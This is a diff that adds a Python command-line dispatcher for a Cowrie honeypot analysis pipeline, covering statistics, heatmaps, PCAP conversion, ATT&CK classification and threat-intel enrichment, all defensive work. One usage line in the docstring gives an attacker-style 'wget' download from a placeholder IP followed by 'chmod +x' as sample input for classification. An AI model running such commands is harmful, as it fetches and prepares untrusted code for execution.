@@ -0,0 +1,83 @@
+#!/usr/bin/env python3
+"""
+PatriotPot - One entry point for the honeypot pipeline scripts
+Each subcommand imports its script (and that script's heavy dependencies:
+scapy, folium, requests, ...) only when it runs, so quick commands start in
+well under 200 ms and stay usable from cron and shell aliases. Arguments after
+the subcommand go to the script's own parser (`patriotpot pcap --help`).
+
+Usage:
+    patriotpot stats --today --no-post
+    patriotpot stats --log /opt/cowrie/var/log/cowrie/ --since 7d
+    patriotpot pcap cowrie.json out.pcap
+    patriotpot classify 'wget http://203.0.113.9/x.sh' 'chmod +x x.sh'
+    patriotpot enrich --from-log cowrie.json --providers shodan
+    patriotpot merge east=/data/east/ west=/data/west/ | patriotpot stats --log - --no-post
+    patriotpot archive extract logs.tar.gz --day 2025-10-03 -C /tmp/day
+    patriotpot --telemetry heatmap --log combined.json   # export to $OTEL_EXPORTER_OTLP_ENDPOINT
+
+Install:
+    ln -s "$PWD/02-Deployment-Scripts/patriotpot.py" /usr/local/bin/patriotpot
+"""
+
+import os
+import sys
+import argparse
+import importlib
+
+# name -> (module, one-line description); modules are imported on dispatch only
+COMMANDS = {
+    "stats": ("final_project_stats", "Top-10 statistics report, optionally posted to Discord"),
+    "heatmap": ("generate_repo_heatmap", "Geolocate attacker IPs and render an HTML heatmap"),
+    "pcap": ("logs2pcap", "Convert Cowrie JSON logs or spools to PCAP"),
+    "classify": ("behavioral_analytics", "Map commands or logged sessions to MITRE ATT&CK phases"),
+    "campaigns": ("campaign_clusters", "Cluster sessions into campaigns by command-script similarity"),
+    "enrich": ("threat_intel", "Enrich attacker IPs across threat-intel providers"),
+    "networks": ("ip_prefixes", "Roll attacker IPs up by network prefix and ASN"),
+    "merge": ("log_merge", "Merge several sensors' logs into one time-ordered stream"),
+    "archive": ("log_archive", "Create, list and extract resumable, checksummed log archives"),
+    "samples": ("sample_store", "Content-addressed store and index of downloaded payloads"),
+    "secrets-check": ("secrets_loader", "Show which API keys are configured (never their values)"),
+}
+
+DEFAULT_OTLP_ENDPOINT = "http://localhost:4317"
+
+
+def build_parser():
+    commands = "\n".join(f"  {name:<15} {description}" for name, (_, description) in COMMANDS.items())
+    parser = argparse.ArgumentParser(
+        prog="patriotpot",
+        description="PatriotPot honeypot pipeline tools",
+        epilog=f"commands:\n{commands}\n\nRun 'patriotpot <command> --help' for a command's options.",
+        formatter_class=argparse.RawDescriptionHelpFormatter,
+    )
+    parser.add_argument("--telemetry", action="store_true",
+                        help="Export OpenTelemetry spans and metrics over OTLP to "
+                             f"$OTEL_EXPORTER_OTLP_ENDPOINT (default: {DEFAULT_OTLP_ENDPOINT})")
+    parser.add_argument("command", choices=COMMANDS, metavar="command", help="One of: " + ", ".join(COMMANDS))
+    parser.add_argument("args", nargs=argparse.REMAINDER, help=argparse.SUPPRESS)
+    return parser
+
+
+def main(argv=None):
+    args = build_parser().parse_args(argv)
+
+    # Telemetry only on request: the command's own telemetry.setup() exports
+    # under its service name when an endpoint is set, and is a no-op otherwise
+    if args.telemetry:
+        os.environ.setdefault("OTEL_EXPORTER_OTLP_ENDPOINT", DEFAULT_OTLP_ENDPOINT)
+    else:
+        os.environ.pop("OTEL_EXPORTER_OTLP_ENDPOINT", None)
+
+    sys.path.insert(0, os.path.dirname(os.path.realpath(__file__)))
+    try:
+        module = importlib.import_module(COMMANDS[args.command][0])
+    except ModuleNotFoundError as e:
+        print(f"patriotpot {args.command} needs the '{e.name}' package (pip install {e.name})", file=sys.stderr)
+        return 1
+    sys.argv[0] = f"patriotpot {args.command}"
+    return module.main(args.args)
+
+
+if __name__ == "__main__":
+    sys.exit(main())